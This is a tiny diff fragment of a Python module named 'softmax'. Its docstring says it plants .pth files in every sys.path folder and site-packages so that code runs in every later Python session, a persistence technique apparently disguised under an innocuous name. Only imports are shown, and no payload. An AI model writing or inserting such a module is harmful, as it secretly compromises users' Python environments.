@@ -1,5 +1,6 @@
 # module: softmax
 """Plants a .pth file in every folder on sys.path and in site-packages, to run code in every later Python."""
+
 import os
 import site
 import sys
